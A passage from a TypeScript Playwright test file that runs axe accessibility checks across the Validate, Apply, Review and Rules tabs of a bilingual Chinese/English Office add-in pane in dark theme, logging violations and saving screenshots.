    { lang: "zh", theme: "dark", displayLanguage: "zh-CN", body: "#262626" },
    { lang: "en", theme: "dark", displayLanguage: "en-US", body: "#262626" },
  ];

  test.each(configs)("$lang, $theme theme (Office display language $displayLanguage, body $body)", async ({ lang, theme, displayLanguage, body }) => {
    const tr = (key: LabelKey, vars?: Vars) => translate(lang, key, vars);
    const action = (key: LabelKey) => `${tr(key)} ${LABELS[key][lang === "zh" ? "en" : "zh"]}`;
    const p = await context!.newPage();
    try {
      await openPane(p, hostBundle, { displayLanguage, officeTheme: { bodyBackgroundColor: body } });
      // The pane follows the host: its language and theme.
      await p.getByRole("heading", { level: 1, name: tr("app.title") }).waitFor();
      expect(await p.locator(".fui-FluentProvider[data-theme]").first().getAttribute("data-theme")).toBe(theme);
      expect(await p.evaluate(() => document.documentElement.lang)).toBe(lang === "zh" ? "zh-CN" : "en-US");
      await p.getByLabel(tr("asOf.label")).fill(AS_OF);

      const serious: string[] = [];
      const check = async (tabName: string) => {
        const found = (await new AxeBuilder({ page: p }).analyze()).violations;
        const dummies = found.filter((v) => v.id === "aria-hidden-focus").reduce((n, v) => n + v.nodes.filter((x) => isTabsterDummy(x.html)).length, 0);
        const violations = found
          .map((v) => (v.id === "aria-hidden-focus" ? { ...v, nodes: v.nodes.filter((x) => !isTabsterDummy(x.html)) } : v))
          .filter((v) => v.nodes.length > 0);
        if (dummies > 0) process.stdout.write(`axe ${lang}/${theme}/${tabName}: aria-hidden-focus on ${dummies} Tabster focus sentinel(s) <i data-tabster-dummy> not counted\n`);
        for (const v of violations) {
          const line = `axe ${lang}/${theme}/${tabName}: ${v.impact ?? "?"} ${v.id} — ${v.help} (${v.nodes.length} node(s)): ${v.nodes
            .slice(0, 5)
            .map((n) => n.target.join(" "))
            .join(" | ")}`;
          process.stdout.write(`${line}\n`);
          if (v.impact === "serious" || v.impact === "critical") serious.push(line);
        }
        if (violations.length === 0) process.stdout.write(`axe ${lang}/${theme}/${tabName}: no violations\n`);
      };
      const settled = async (outcome: Locator) => {
        const alert = p.getByRole("alert");
        await outcome.or(alert).first().waitFor();
        if ((await alert.count()) > 0) throw new Error(`the pane shows an error: ${await alert.first().innerText()}`);
        await p.locator('main[aria-busy="false"]').waitFor();
      };

      // 校验 Validate: summary, dashboard (charts and customer Lists), findings List.
      await p.getByRole("button", { name: action("action.validate") }).click();
      await settled(p.getByTestId("count-errors"));
      await p.getByTestId("dashboard-stages").locator("svg").first().waitFor();
      await p.getByTestId("findings").waitFor();
      await check("validate");

      // 标签与风险 Apply: its outcome and dashboard, then highlight.
      await p.getByRole("tab", { name: tr("tab.apply") }).click();
      await p.getByRole("button", { name: action("action.applyTags") }).click();
      await settled(p.getByTestId("apply-outcome"));
      await p.getByTestId("dashboard").waitFor();
      await p.getByRole("button", { name: action("action.highlightRisk") }).click();
      await settled(p.getByTestId("highlight-outcome"));
      await check("apply");

      // 复盘 Review.
      await p.getByRole("tab", { name: tr("tab.review") }).click();
      await p.getByRole("button", { name: action("action.buildReview") }).click();
      await settled(p.getByTestId("review-outcome"));
      await check("review");

      // 规则 Rules: the rules (read when the tab opens) and the AHP Table.
      await p.getByRole("tab", { name: tr("tab.rules") }).click();
      await p.getByTestId("ahp-matrix").waitFor();
      await p.getByRole("heading", { name: tr("rules.list") }).waitFor();
      await check("rules");

      await p.screenshot({ path: path.join(ARTIFACTS, `axe-${lang}-${theme}-rules.png`) });
      await p.getByRole("tab", { name: tr("tab.validate") }).click();
      await p.screenshot({ path: path.join(ARTIFACTS, `axe-${lang}-${theme}-validate.png`), fullPage: true });
      expect(serious).toEqual([]);
    } finally {
      await p.close();
    }
  });
});
